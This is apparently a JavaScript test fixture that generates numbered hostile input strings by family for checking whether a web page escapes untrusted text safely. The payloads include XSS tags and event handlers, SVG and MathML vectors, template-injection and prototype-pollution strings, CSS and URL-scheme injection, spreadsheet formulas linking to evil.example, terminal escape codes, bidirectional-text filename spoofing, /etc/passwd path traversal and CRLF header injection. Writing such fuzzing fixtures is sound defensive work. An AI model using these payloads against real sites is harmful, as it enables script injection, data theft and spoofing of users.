// SPDX-License-Identifier: MIT
// What somebody might send to see whether the page believes it, by family. Every text is its own
// and carries its number where the family allows it, so that each can be found on the page.

const MEGABYTE = 1_000_000;

/// One text per word of the family.
const each = (words, text) => words.map((word, i) => text(word, i));

const codePoints = (from, to) =>
  Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i));

const HANDLERS = [
  'onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbegin',
  'onpointerenter', 'oncopy',
];
const TAGS = ['img', 'video', 'audio', 'iframe', 'object', 'embed', 'link', 'base', 'meta', 'form', 'input', 'details'];

/// Family to its texts; 200 or more in all.
export const FAMILIES = {
  script: each(
    ['script', 'SCRIPT', 'scr\tipt', 'script/', 'script\n', 'script type=module', 'script src=//evil.example/a', 'script async', 'script nonce=a', 'noscript'],
    (tag, i) => `<${tag}>alert(${i})</script>`,
  ),
  handler: each(HANDLERS, (handler, i) => `<img src=x ${handler}=alert(${i})>`),
  tag: each(TAGS, (tag, i) => `"><${tag} src=//evil.example/${i} href=//evil.example/${i} data=//evil.example/${i}>`),
  svg: each(HANDLERS, (handler, i) => `<svg><animate ${handler}=alert(${i}) attributeName=x dur=1s /></svg>`),
  svgUse: each(['use', 'image', 'foreignObject', 'set', 'style', 'script'], (tag, i) => `<svg><${tag} href="//evil.example/${i}" xlink:href="data:,${i}"/></svg>`),
  mathml: each(['math', 'mtext', 'annotation-xml', 'maction'], (tag, i) => `<math><${tag} xlink:href="javascript:alert(${i})">m${i}</${tag}></math>`),
  attribute: each(['"', "'", '`', '" ', "' ", '">', "'>", '\\"'], (quote, i) => `${quote} onmouseover=alert(${i}) x=${quote}`),
  ending: each(['pre', 'td', 'textarea', 'title', 'style', 'script', 'template', 'tp-app', 'body', 'svg'], (tag, i) => `</${tag}></${tag}><b id=broke${i}>out</b>`),
  comment: each(['<!--', '-->', '<![CDATA[', ']]>', '<!DOCTYPE x>', '<?xml?>'], (mark, i) => `${mark}<i>${i}</i>`),
  template: each(
    ['${%}', '{{%}}', '<%= % %>', '${{%}}', '{%%%}', '@(%)', '[[%]]', '*{%}', '{{constructor.constructor("%")()}}', '?lit$%$'],
    (form, i) => form.replace('%', `alert(${i})`),
  ),
  css: each(
    ['<style>*{display:none}</style>', '<style>@import "//evil.example/a.css"</style>', '<b style="background:url(//evil.example/b)">', '<b style="position:fixed;inset:0">', '}*{display:none}{', 'expression(alert(1))', '</style><style>body{visibility:hidden}', ':root{--x:url(//evil.example/c)}'],
    (text, i) => `${text}c${i}`,
  ),
  address: each(
    ['javascript:', 'JaVaScRiPt:', 'java\nscript:', ' javascript:', 'data:text/html,', 'vbscript:', 'blob:', 'file:///etc/passwd?', '//evil.example/', 'https://evil.example/'],
    (scheme, i) => `${scheme}alert(${i})`,
  ),
  entity: each(['&lt;', '&#60;', '&#x3c;', '&#0000060', '&LT;', '&amp;lt;', '&nbsp;', '&Tab;'], (entity, i) => `${entity}b&gt;${i}${entity}/b&gt;`),
  json: each(
    ['"}', '\\"}', '\\', '\\u003cb\\u003e', '{"__proto__":{"x":1}}', '{"a":1,"a":2}', '[[[[[[', '1e999', '{"a":', '\\ud800'],
    (text, i) => `${text}j${i}`,
  ),
  word: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'undefined', 'null', 'NaN', 'true', '-0'],
  formula: each(['=', '+', '-', '@', '\t=', '\r=', '=cmd|', ';='], (sign, i) => `${sign}HYPERLINK("//evil.example/${i}")`),
  ansi: each(['[31m', '[2J', ']0;title\u0007', ']8;;//evil.example\u0007', '[6n', 'c', 'P1;1|', '[?1049h'], (code, i) => `\u001b${code}a${i}`),
  control: each(codePoints(0x01, 0x0f), (c, i) => `ctl${i}${c}end`),
  latin1Control: each(codePoints(0x80, 0x87), (c, i) => `c1x${i}${c}end`),
  direction: each([...codePoints(0x202a, 0x202e), ...codePoints(0x2066, 0x2069), '\u200e', '\u200f', '\u061c'], (c, i) => `dir${i}${c}gnp.exe`),
  unseen: each(['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u2028', '\u2029', '\u00ad'], (c, i) => `not${i}${c}seen`),
  letters: ['\ud83d\ude00', '\u0645\u0631\u062d\u0628\u0627', '\u05e9\u05dc\u05d5\u05dd', 'e\u0301\u0301\u0301', 'Z\u0335\u0336\u0337', '\ufffd', '\uff1cscript\uff1e', '\u212a\u017f'],
  path: each(['../', '..\\', '/', '%2e%2e/', '..%2f', '....//', 'C:\\', '\\\\evil\\'], (up, i) => `${up}${up}etc/passwd${i}`),
  header: each(['\r\n', '\n\n', '%0d%0a'], (line, i) => `x${line}Set-Cookie: a=${i}`),
  null: ['\u0000', 'a\u0000b', '\u0000<b>'],
  long: [255, 4_096, 60_000, 65_535, 65_536, MEGABYTE].map((n) => '<b>'.padEnd(n, 'a')),
};

export const ALL = Object.entries(FAMILIES).flatMap(([family, texts]) =>
  texts.map((text) => ({ family, text })),
);
